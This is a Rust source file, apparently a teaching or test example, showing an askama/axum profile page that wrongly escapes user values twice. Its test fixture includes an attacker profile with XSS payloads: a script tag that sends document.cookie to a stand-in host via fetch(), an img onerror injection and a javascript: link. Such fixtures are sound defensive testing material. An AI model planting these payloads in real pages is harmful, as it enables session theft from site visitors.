//! wrong: escapes the values on the way in, then the template escapes them again
//! expect: the heading: the user typed "Tom & Jerry &lt;3"
use askama::Template;
use axum::{
    Router,
    extract::Path,
    http::StatusCode,
    response::{Html, IntoResponse, Response},
    routing::get,
};
use url::Url;

/// What a user typed in their settings.
pub struct Profile {
    pub name: String,
    pub bio: String,
    pub website: String,
}

/// The page's markup; askama escapes every `{{ value }}` for HTML (`ext = "html"`).
#[derive(Template)]
#[template(
    ext = "html",
    source = r#"<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>{{ name }}</title></head>
<body>
<img alt="{{ name }}" src="/avatar.png">
<h1>{{ name }}</h1>
<p class="bio">{{ bio }}</p>
{% if let Some(url) = website %}<a href="{{ url }}" rel="nofollow ugc">website</a>{% endif %}
</body>
</html>"#
)]
struct ProfilePage<'a> {
    name: &'a str,
    bio: &'a str,
    website: Option<String>,
}

/// The website as a URL worth linking: only `http` and `https` (never `javascript:`, `data:`).
fn linkable(website: &str) -> Option<String> {
    let url = Url::parse(website).ok()?;
    matches!(url.scheme(), "http" | "https").then(|| url.into())
}

/// The profile page.
pub fn render_profile(profile: &Profile) -> Result<String, askama::Error> {
    let name = askama::filters::escape(&profile.name, askama::filters::Html)?.to_string();
    let bio = askama::filters::escape(&profile.bio, askama::filters::Html)?.to_string();
    ProfilePage {
        name: &name,
        bio: &bio,
        website: linkable(&profile.website),
    }
    .render()
}

/// The profiles users saved; number 2 belongs to an attacker.
fn saved_profile(id: u32) -> Option<Profile> {
    match id {
        1 => Some(Profile {
            name: "Ada".into(),
            bio: "Engines & numbers".into(),
            website: "https://ada.example/notes?topic=engines&page=2".into(),
        }),
        2 => Some(Profile {
            name: "<script>fetch('//evil.example/?c='+document.cookie)</script>".into(),
            bio: "</p><img src=x onerror=alert(1)>".into(),
            website: "javascript:alert(document.domain)".into(),
        }),
        _ => None,
    }
}

async fn profile_page(Path(id): Path<u32>) -> Response {
    let Some(profile) = saved_profile(id) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    match render_profile(&profile) {
        Ok(page) => Html(page).into_response(),
        Err(_) => StatusCode::INTERNAL_SERVER_ERROR.into_response(),
    }
}

pub fn app() -> Router {
    Router::new().route("/profile/{id}", get(profile_page))
}

fn main() {
    // Checked by the tests, which render hostile profiles.
}
